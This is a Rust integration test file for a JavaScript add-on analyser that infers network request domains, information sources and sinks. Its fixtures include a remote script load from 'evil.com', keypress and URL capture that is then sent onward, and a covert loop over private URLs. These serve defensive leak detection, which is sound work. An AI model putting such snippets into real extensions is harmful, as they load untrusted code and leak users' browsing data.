//! Integration tests for the base analysis: abstract semantics, network
//! domain inference, event-loop modeling, and read/write set production.

use jsanalysis::{analyze, AnalysisConfig, AnalysisResult, SinkKind, SourceKind, Strength};
use jsir::{IrStmtKind, Lowered};

fn run(src: &str) -> (Lowered, AnalysisResult) {
    let ast = jsparser::parse(src).expect("parse");
    let lowered = jsir::lower(&ast);
    let result = analyze(&lowered, &AnalysisConfig::default());
    assert!(!result.hit_step_limit, "analysis hit step limit");
    (lowered, result)
}

fn send_domains(result: &AnalysisResult) -> Vec<String> {
    result
        .sinks
        .iter()
        .filter(|s| s.kind == SinkKind::Send)
        .map(|s| format!("{}", s.domain))
        .collect()
}

#[test]
fn exact_domain_inferred_for_constant_url() {
    let (_, r) = run(r#"
var req = new XMLHttpRequest();
req.open("GET", "http://chess.com/api/turn");
req.send(null);
"#);
    assert_eq!(send_domains(&r), vec!["\"http://chess.com/api/turn\""]);
}

#[test]
fn prefix_domain_survives_suffix_variation() {
    // The Section 5 motivating pattern.
    let (_, r) = run(r#"
var baseURL = "www.example.com/req?";
if (Math.random() < 0.5) { baseURL += "name"; } else { baseURL += "age"; }
var req = new XMLHttpRequest();
req.open("GET", baseURL);
req.send(null);
"#);
    let d = send_domains(&r);
    assert_eq!(d, vec!["\"www.example.com/req?\"..."]);
}

#[test]
fn unrelated_domains_join_to_unknown() {
    // The VKVideoDownloader failure mode: three player domains.
    let (_, r) = run(r#"
var url;
if (Math.random() < 0.3) { url = "http://vkontakte.ru/player"; }
else if (Math.random() < 0.6) { url = "http://rutube.ru/video"; }
else { url = "https://video.mail.ru/x"; }
var req = new XMLHttpRequest();
req.open("GET", url);
req.send(null);
"#);
    let sink = r
        .sinks
        .iter()
        .find(|s| s.kind == SinkKind::Send)
        .expect("send sink");
    // Greatest common prefix of the three is "http" -- effectively unknown
    // (no usable domain).
    let text = sink.domain.known_text().unwrap_or("");
    assert!(
        text.len() <= 4,
        "domain should be (close to) unknown, got {:?}",
        sink.domain
    );
}

#[test]
fn xhr_wrapper_helper() {
    let (_, r) = run(r#"
var req = XHRWrapper("http://public.example.org");
req.send("payload");
"#);
    assert_eq!(send_domains(&r), vec!["\"http://public.example.org\""]);
}

#[test]
fn url_source_read_detected() {
    let (lowered, r) = run("var u = content.location.href; send_it(u);");
    let sources = r.source_stmts();
    // Some statement reads the Url source.
    let kinds: Vec<_> = sources.values().flatten().collect();
    assert!(
        kinds.contains(&&SourceKind::Url),
        "no url source read found"
    );
    // And it's the LoadProp of href.
    let href_load = lowered
        .program
        .stmts
        .iter()
        .filter(|s| matches!(&s.kind, IrStmtKind::LoadProp { prop: jsir::Operand::Str(p), .. } if p == "href"))
        .map(|s| s.id)
        .collect::<Vec<_>>();
    assert_eq!(href_load.len(), 1);
    assert!(sources.contains_key(&href_load[0]));
}

#[test]
fn key_source_via_event_listener() {
    let (_, r) = run(r#"
window.addEventListener("keypress", function (e) {
  var code = e.keyCode;
  remember(code);
}, false);
"#);
    let sources = r.source_stmts();
    let kinds: Vec<_> = sources.values().flatten().collect();
    assert!(
        kinds.contains(&&SourceKind::Key),
        "handler body should read the key source via the event loop"
    );
}

#[test]
fn event_handlers_reachable_through_loop() {
    let (lowered, r) = run(r#"
function onLoad() { marker_global = 1; }
window.addEventListener("load", onLoad, false);
"#);
    // The body of onLoad must be reachable (the store to marker_global).
    let f = lowered
        .program
        .funcs
        .iter()
        .find(|f| f.name == "onLoad")
        .unwrap();
    let body_reached = f.stmts.iter().any(|s| r.reachable.contains(s));
    assert!(body_reached, "event handler body not analyzed");
}

#[test]
fn set_timeout_function_handler_runs() {
    let (lowered, r) = run("setTimeout(function () { tick_global = 1; }, 1000);");
    let f = &lowered.program.funcs[1];
    assert!(f.stmts.iter().any(|s| r.reachable.contains(s)));
}

#[test]
fn set_timeout_string_flagged_as_dynamic_code() {
    let (_, r) = run("setTimeout(\"doEvil()\", 10);");
    assert!(r
        .api_uses
        .iter()
        .any(|(_, name)| name == "setTimeout$string"));
}

#[test]
fn eval_use_reported() {
    let (_, r) = run("eval(\"x = 1\");");
    assert!(r.api_uses.iter().any(|(_, name)| name == "eval"));
    assert!(r.sinks.iter().any(|s| s.kind == SinkKind::Eval));
}

#[test]
fn scriptloader_reported() {
    let (_, r) = run("Services.scriptloader.loadSubScript(\"http://evil.com/x.js\");");
    assert!(r
        .api_uses
        .iter()
        .any(|(_, name)| name == "Services.scriptloader.loadSubScript"));
    let sl = r
        .sinks
        .iter()
        .find(|s| s.kind == SinkKind::ScriptLoader)
        .unwrap();
    assert_eq!(sl.domain.as_exact(), Some("http://evil.com/x.js"));
}

#[test]
fn closures_capture_outer_vars() {
    let (lowered, r) = run(r#"
function make(prefixStr) {
  return function (suffix) { return prefixStr + suffix; };
}
var f = make("http://fixed.example.com/");
var req = new XMLHttpRequest();
req.open("GET", f("page1"));
req.send(null);
"#);
    let _ = lowered;
    let d = send_domains(&r);
    assert_eq!(d.len(), 1);
    assert!(
        d[0].contains("http://fixed.example.com/"),
        "closure-captured prefix lost: {}",
        d[0]
    );
}

#[test]
fn functions_as_values_tracked() {
    let (lowered, r) = run(r#"
function target() { return 1; }
var alias = target;
alias();
"#);
    // The call through the alias resolves to `target`.
    let target = lowered
        .program
        .funcs
        .iter()
        .find(|f| f.name == "target")
        .unwrap();
    let hit = r.call_targets.iter().any(|(_, t)| t.contains(&target.id));
    assert!(hit, "aliased call not resolved");
}

#[test]
fn recursion_terminates_and_analyzes() {
    let (lowered, r) = run(r#"
function count(n) {
  if (n < 1) { return 0; }
  return count(n - 1) + 1;
}
var x = count(5);
"#);
    let f = lowered
        .program
        .funcs
        .iter()
        .find(|f| f.name == "count")
        .unwrap();
    assert!(f.stmts.iter().any(|s| r.reachable.contains(s)));
}

#[test]
fn mutual_recursion_terminates() {
    let (_, r) = run(r#"
function even(n) { if (n == 0) return true; return odd(n - 1); }
function odd(n) { if (n == 0) return false; return even(n - 1); }
var e = even(7);
"#);
    assert!(!r.hit_step_limit);
}

#[test]
fn event_loop_makes_handlers_cyclic() {
    let (lowered, r) = run("function h() { tick = 1; } window.addEventListener('load', h, false);");
    let h = lowered
        .program
        .funcs
        .iter()
        .find(|f| f.name == "h")
        .unwrap();
    assert!(
        r.cyclic_stmts.contains(&h.entry),
        "event handlers run inside the dispatch loop"
    );
}

#[test]
fn recursion_is_cyclic() {
    let (lowered, r) = run("function r(n) { if (n) r(n - 1); } r(3);");
    let f = lowered
        .program
        .funcs
        .iter()
        .find(|f| f.name == "r")
        .unwrap();
    assert!(r.cyclic_stmts.contains(&f.entry));
}

#[test]
fn straight_line_not_cyclic() {
    let ast = jsparser::parse("var a = 1; var b = a;").unwrap();
    let lowered = jsir::lower_with_options(&ast, &jsir::LowerOptions { event_loop: false });
    let r = analyze(&lowered, &AnalysisConfig::default());
    for s in &lowered.program.top_level().stmts {
        assert!(!r.cyclic_stmts.contains(s));
    }
}

#[test]
fn may_throw_on_possibly_undefined_receiver() {
    let (lowered, r) = run(r#"
var obj;
if (c) { obj = {}; }
try { obj.prop = 1; } catch (e) {}
"#);
    let store = lowered
        .program
        .stmts
        .iter()
        .find(|s| matches!(s.kind, IrStmtKind::StoreProp { .. }))
        .unwrap();
    assert!(r.may_throw.contains(&store.id));
}

#[test]
fn no_throw_on_definite_object() {
    let (lowered, r) = run("var obj = {}; obj.prop = 1;");
    let store = lowered
        .program
        .stmts
        .iter()
        .rfind(|s| matches!(s.kind, IrStmtKind::StoreProp { .. }))
        .unwrap();
    assert!(!r.may_throw.contains(&store.id));
}

#[test]
fn strong_writes_on_singleton_objects() {
    let (lowered, r) = run("var o = { url: \"a\" };");
    let store = lowered
        .program
        .stmts
        .iter()
        .find(|s| matches!(s.kind, IrStmtKind::StoreProp { .. }))
        .unwrap();
    let rw = &r.rw[&store.id];
    let strong = rw
        .writes
        .iter()
        .any(|(l, s)| s == Strength::Strong && r.locs[l].prop.as_exact() == Some("url"));
    assert!(strong, "object literal store should be a strong write");
}

#[test]
fn weak_writes_in_loops() {
    let (lowered, r) = run(r#"
var i = 0;
while (i < 3) {
  var o = {};
  o.p = i;
  i = i + 1;
}
"#);
    // The allocation site re-executes each iteration. Under recency
    // abstraction the store stays STRONG on the most-recent instance,
    // while older instances live on in an aged summary twin (recorded in
    // `site_aliases`).
    let store = lowered
        .program
        .stmts
        .iter()
        .find(|s| matches!(&s.kind, IrStmtKind::StoreProp { prop: jsir::Operand::Str(p), .. } if p == "p"))
        .unwrap();
    let rw = &r.rw[&store.id];
    assert!(
        rw.writes.iter().any(|(_, s)| s == Strength::Strong),
        "recency keeps the MRU instance strongly updatable"
    );
    assert!(
        !r.site_aliases.is_empty(),
        "re-executed allocation must have an aged twin"
    );
}

#[test]
fn computed_property_reads_are_weak_with_unknown_names() {
    let (lowered, r) = run("var o = { a: 1, b: 2 }; var v = o[getKey()];");
    let load = lowered
        .program
        .stmts
        .iter()
        .rfind(|s| matches!(s.kind, IrStmtKind::LoadProp { .. }))
        .unwrap();
    let rw = &r.rw[&load.id];
    assert!(rw
        .reads
        .iter()
        .any(|(l, s)| s == Strength::Weak && !r.locs[l].prop.is_exact()));
}

#[test]
fn string_methods_preserve_prefixes() {
    let (_, r) = run(r#"
var base = "HTTP://API.EXAMPLE.COM/Q?";
var url = base.toLowerCase() + encodeURIComponent(userInput);
var req = new XMLHttpRequest();
req.open("GET", url);
req.send(null);
"#);
    let sink = r.sinks.iter().find(|s| s.kind == SinkKind::Send).unwrap();
    assert!(
        sink.domain
            .known_text()
            .is_some_and(|t| t.starts_with("http://api.example.com/q?")),
        "lowercased prefix lost: {}",
        sink.domain
    );
}

#[test]
fn this_binding_in_methods() {
    let (_, r) = run(r#"
var helper = {
  domain: "http://svc.example.net/",
  go: function (q) {
    var req = new XMLHttpRequest();
    req.open("GET", this.domain + q);
    req.send(null);
  }
};
helper.go("a");
"#);
    let d = send_domains(&r);
    assert_eq!(d.len(), 1);
    assert!(
        d[0].contains("http://svc.example.net/"),
        "this.domain prefix lost: {}",
        d[0]
    );
}

#[test]
fn new_on_addon_function_constructs() {
    let (_, r) = run(r#"
function Box(v) { this.value = v; }
var b = new Box(41);
var out = b.value;
"#);
    assert!(!r.hit_step_limit);
    // The construction and read complete; out is the stored number.
    // (Smoke assertion: no crash, reachable everywhere.)
    assert!(r.reachable.len() > 5);
}

#[test]
fn throw_and_catch_value_flow() {
    let (lowered, r) = run(r#"
try {
  throw "secret";
} catch (e) {
  keep_global = e;
}
"#);
    // The catch binding writes to a var; a read/write set exists for it.
    let catch_bind = lowered
        .program
        .stmts
        .iter()
        .find(|s| matches!(s.kind, IrStmtKind::CatchBind { .. }))
        .unwrap();
    let rw = &r.rw[&catch_bind.id];
    assert!(!rw.reads.is_empty());
    assert!(!rw.writes.is_empty());
}

#[test]
fn geolocation_callback_sources() {
    let (_, r) = run(r#"
navigator.geolocation.getCurrentPosition(function (pos) {
  stash_global = pos.coords.latitude;
});
"#);
    let kinds: Vec<_> = r.source_stmts().values().flatten().cloned().collect();
    assert!(kinds.contains(&SourceKind::Geoloc));
}

#[test]
fn xhr_response_handler_invoked() {
    let (lowered, r) = run(r#"
var req = new XMLHttpRequest();
req.open("GET", "http://feed.example.com/data");
req.onreadystatechange = function () { handled_global = req.responseText; };
req.send(null);
"#);
    let handler = &lowered.program.funcs[1];
    assert!(
        handler.stmts.iter().any(|s| r.reachable.contains(s)),
        "XHR response handler must run via the event loop"
    );
    let _ = r;
}

#[test]
fn for_in_enumerates_and_reads() {
    let (lowered, r) = run(r#"
var o = { first: 1, second: 2 };
for (var k in o) {
  use_global = o[k];
}
"#);
    let next = lowered
        .program
        .stmts
        .iter()
        .find(|s| matches!(s.kind, IrStmtKind::ForInNext { .. }))
        .unwrap();
    // Enumeration records a (weak, unknown-name) read of the object.
    let rw = &r.rw[&next.id];
    assert!(rw.reads.iter().any(|(l, _)| !r.locs[l].prop.is_exact()));
}

#[test]
fn call_targets_recorded_per_site() {
    let (lowered, r) = run("function a() {} function b() {} a(); b();");
    let calls: Vec<_> = lowered
        .program
        .stmts
        .iter()
        .filter(|s| matches!(s.kind, IrStmtKind::Call { .. }))
        .map(|s| s.id)
        .collect();
    assert_eq!(calls.len(), 2);
    for c in calls {
        assert_eq!(
            r.call_targets.get(&c).map(|t| t.len()),
            Some(1),
            "each call resolves to exactly one target"
        );
    }
}

#[test]
fn pref_write_sink() {
    let (_, r) = run("Services.prefs.setCharPref(\"x\", content.location.href);");
    assert!(r.sinks.iter().any(|s| s.kind == SinkKind::PrefWrite));
}

#[test]
fn figure1_example_analyzes() {
    let (_, r) = run(r#"
var data = { url: content.location.href };
send_global(data.url);
if (content.location.href == "secret.com") send_global(null);
var arr = ["covert.com", "priv.com"];
var i = 0, count = 0;
while (arr[i] && content.location.href != arr[i]) { i++; count++; }
send_global(count);
"#);
    assert!(!r.hit_step_limit);
    let kinds: Vec<_> = r.source_stmts().values().flatten().cloned().collect();
    assert!(kinds.contains(&SourceKind::Url));
}

#[test]
fn steps_metric_positive() {
    let (_, r) = run("var x = 1;");
    assert!(r.steps > 0);
}

#[test]
fn context_sensitivity_separates_call_sites() {
    // With k=1, two calls to the same function from different sites use
    // different frames, so the URL prefix from one site is not polluted by
    // the other.
    let (_, r) = run(r#"
function fetch(u) {
  var req = new XMLHttpRequest();
  req.open("GET", u);
  req.send(null);
}
fetch("http://one.example.com/a");
"#);
    let d = send_domains(&r);
    assert_eq!(d, vec!["\"http://one.example.com/a\""]);
}

#[test]
fn catch_reachable_through_implicit_exception_only() {
    // The catch body's only entry is the implicit exception from the
    // possibly-undefined receiver; it must still be analyzed (and its
    // network request discovered).
    let (lowered, r) = run(r#"
var maybe;
if (Math.random() < 0.5) { maybe = {}; }
try {
  maybe.prop = 1;
} catch (e) {
  var req = new XMLHttpRequest();
  req.open("GET", "http://error-report.example.com/oops");
  req.send(null);
}
"#);
    let _ = lowered;
    assert!(
        r.sinks.iter().any(|s| {
            s.domain
                .known_text()
                .is_some_and(|d| d.contains("error-report.example.com"))
        }),
        "catch-only sink missed; sinks: {:?}",
        r.sinks
    );
}

#[test]
fn mixed_native_and_addon_callee_keeps_both_results() {
    // `f` may be the native encodeURIComponent or an addon function; both
    // results must reach the sink domain.
    let (_, r) = run(r#"
function mine(x) { return "http://addon-path.example.com/"; }
var f;
if (Math.random() < 0.5) { f = mine; } else { f = encodeURIComponent; }
var out = f("http://native-path.example.com/");
var req = new XMLHttpRequest();
req.open("GET", out);
req.send(null);
"#);
    let sink = r
        .sinks
        .iter()
        .find(|s| s.kind == SinkKind::Send)
        .expect("sink");
    // The two candidate URLs share only the "http://" prefix; losing the
    // native result would leave the addon result exact instead.
    let text = sink.domain.known_text().unwrap_or("<bot>");
    assert!(
        text.starts_with("http://") && !text.contains("addon-path.example.com/"),
        "domain should be the join of both results, got {text:?}"
    );
}
